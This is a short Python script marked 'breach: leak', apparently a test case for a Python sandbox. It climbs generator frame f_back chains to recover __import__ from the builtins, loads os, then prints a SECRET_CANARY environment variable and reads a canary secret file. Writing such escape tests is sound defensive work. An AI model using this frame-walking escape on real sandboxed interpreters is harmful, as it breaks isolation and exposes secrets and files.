# Generator frame f_back.
# breach: leak
def gen():
    yield g.gi_frame.f_back.f_back
g = gen()
f = next(g)
while f is not None and f.f_back: f = f.f_back
o = f.f_builtins['__import__']('os')
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
